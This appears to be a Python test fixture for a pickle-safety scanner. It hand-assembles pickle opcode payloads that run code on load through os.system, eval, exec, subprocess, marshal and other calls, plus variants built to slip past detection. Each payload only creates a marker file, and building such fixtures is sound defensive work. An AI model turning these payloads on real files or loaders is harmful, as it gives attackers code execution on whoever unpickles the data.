"""Pickles that run code when they are loaded, opcode by opcode: one of each way in."""

from __future__ import annotations

import marshal
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.attack.attack import python

Payload = Callable[[Path], bytes]
STOP = b"."


def plain(value: Any, protocol: int = 3) -> bytes:
    """The opcodes that push a plain value."""
    return pickle.dumps(value, protocol)[2:-1]


def named(module: str, name: str) -> bytes:
    """The opcodes that push what a module holds under a name."""
    return f"c{module}\n{name}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    """The opcodes that call a function with what others push."""
    return function + b"(" + b"".join(arguments) + b"tR"


def _calls(module: str, name: str, *arguments: object) -> Payload:
    """Call a function; `MARK`, `TOUCH` and `CODE` stand for the path, a shell's command and Python that create it."""

    def filled(argument: object, mark: Path) -> object:
        given = {"MARK": str(mark), "TOUCH": f"touch {mark}", "CODE": python(mark)}
        return (
            [filled(each, mark) for each in argument]
            if isinstance(argument, list)
            else given.get(str(argument), argument)
        )

    return lambda mark: call(named(module, name), *(plain(filled(each, mark)) for each in arguments))


def _touch(mark: Path) -> bytes:
    return plain(f"touch {mark}")


_SYSTEM = named("os", "system")
_OS = call(named("importlib", "import_module"), plain("os"))
_PARTIAL = named("functools", "partial")


def _code(mark: Path) -> bytes:
    """A function made of marshalled code, called."""
    code = call(named("marshal", "loads"), plain(marshal.dumps(compile(python(mark), "x", "exec"))))
    return call(call(named("types", "FunctionType"), code, call(named("builtins", "globals"))))


def _memoised(mark: Path) -> bytes:
    """Both names are put away first, and fetched from the memo."""
    return plain("system") + b"q\x050" + plain("os") + b"q\x060" + b"h\x06h\x05\x93(" + _touch(mark) + b"tR"


def _frames(mark: Path) -> bytes:
    return pickle.dumps(_System(mark), 5)[2:-1]


class _System:
    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (f"touch {self.mark}",)


#: By the way in; each is the opcodes between PROTO and STOP.
WAYS_IN: dict[str, Payload] = {
    "GLOBAL os.system": _calls("os", "system", "TOUCH"),
    "GLOBAL posix.system": _calls("posix", "system", "TOUCH"),
    "STACK_GLOBAL": lambda mark: call(plain("os") + plain("system") + b"\x93", _touch(mark)),
    "STACK_GLOBAL, a name with dots": lambda mark: call(
        plain("os") + plain("system.__call__") + b"\x93", _touch(mark)
    ),
    "STACK_GLOBAL, names from the memo": _memoised,
    "STACK_GLOBAL, names with escapes": lambda mark: call(b"V\\u006fs\nVsyst\\u0065m\n\x93", _touch(mark)),
    "INST": lambda mark: b"(" + _touch(mark) + b"ios\nsystem\n",
    "OBJ": lambda mark: b"(" + _PARTIAL + _SYSTEM + _touch(mark) + b"o)R",
    "NEWOBJ": lambda mark: _PARTIAL + b"(" + _SYSTEM + _touch(mark) + b"t\x81)R",
    "NEWOBJ_EX": lambda mark: _PARTIAL + b"(" + _SYSTEM + _touch(mark) + b"t}\x92)R",
    "BUILD": lambda mark: (
        call(_PARTIAL, named("builtins", "print")) + b"(" + _SYSTEM + b"(" + _touch(mark) + b"t}Ntb)R"
    ),
    "BINPERSID": lambda mark: call(_SYSTEM, _touch(mark)) + b"Q",
    "FRAME of protocol 5": _frames,
    "PROTO twice": lambda mark: b"\x80\x02" + call(_SYSTEM, _touch(mark)),
    "popped before the weights": lambda mark: call(_SYSTEM, _touch(mark)) + b"0}",
    "as a key": lambda mark: b"}" + call(_SYSTEM, _touch(mark)) + plain(1) + b"s",
}
#: By what is called.
CALLED: dict[str, Payload] = {
    "eval": _calls("builtins", "eval", "CODE"),
    "exec": _calls("builtins", "exec", "CODE"),
    "open": _calls("builtins", "open", "MARK", "w"),
    "getattr": lambda mark: call(call(named("builtins", "getattr"), _OS, plain("system")), _touch(mark)),
    "__import__": lambda mark: call(
        call(named("builtins", "getattr"), call(named("builtins", "__import__"), plain("os")), plain("system")),
        _touch(mark),
    ),
    "map": lambda mark: call(
        named("builtins", "list"), call(named("builtins", "map"), _SYSTEM, plain([f"touch {mark}"]))
    ),
    "operator.methodcaller": lambda mark: call(
        call(named("operator", "methodcaller"), plain("system"), _touch(mark)), _OS
    ),
    "subprocess.check_call": _calls("subprocess", "check_call", ["touch", "MARK"]),
    "marshal and FunctionType": _code,
    "pickle.loads": lambda mark: call(
        named("pickle", "loads"), plain(b"\x80\x03" + call(_SYSTEM, _touch(mark)) + STOP)
    ),
    "timeit.timeit": _calls("timeit", "timeit", "pass", "CODE"),
    "cProfile.run": _calls("cProfile", "run", "CODE"),
    "pydoc.pipepager": _calls("pydoc", "pipepager", "", "TOUCH"),
    "code.InteractiveInterpreter": lambda mark: call(
        plain("code") + plain("InteractiveInterpreter.runsource") + b"\x93",
        call(named("code", "InteractiveInterpreter")),
        plain(python(mark)),
    ),
    "pathlib.Path.touch": lambda mark: call(
        plain("pathlib") + plain("Path.touch") + b"\x93", call(named("pathlib", "PosixPath"), plain(str(mark)))
    ),
    "logging.FileHandler": _calls("logging", "FileHandler", "MARK"),
    "codecs.open": _calls("codecs", "open", "MARK", "w"),
    "shutil.copyfile": _calls("shutil", "copyfile", "/dev/null", "MARK"),
    "gzip.open": _calls("gzip", "open", "MARK", "w"),
    "numpy.save": _calls("numpy", "save", "MARK", 1),
    "numpy's runstring": _calls("numpy.testing._private.utils", "runstring", "CODE", {}),
}


def protocol_0(mark: Path) -> bytes:
    """In text alone, as no tool writes any more."""
    return b"c__builtin__\neval\n(V" + python(mark).encode() + b"\ntR."


def whole(body: bytes, protocol: int = 4) -> bytes:
    """A pickle of these opcodes."""
    return b"\x80" + bytes([protocol]) + body + STOP


#: Pickles that are odd as a whole: loaded up to where they break, or one after another.
SHAPES: dict[str, Payload] = {
    "an opcode that does not exist behind it": lambda mark: b"\x80\x04" + CALLED["eval"](mark) + b"\xff.",
    "cut off behind it": lambda mark: b"\x80\x04" + CALLED["eval"](mark),
    "an empty stack behind it": lambda mark: b"\x80\x04" + CALLED["eval"](mark) + b"00.",
    "behind a sound pickle": lambda mark: whole(plain(1)) + whole(CALLED["eval"](mark)),
    "a long text before it": lambda mark: whole(plain("x" * 100_000) + b"0" + CALLED["eval"](mark)),
    "bytes behind it": lambda mark: whole(CALLED["eval"](mark)) + bytes(64),
}
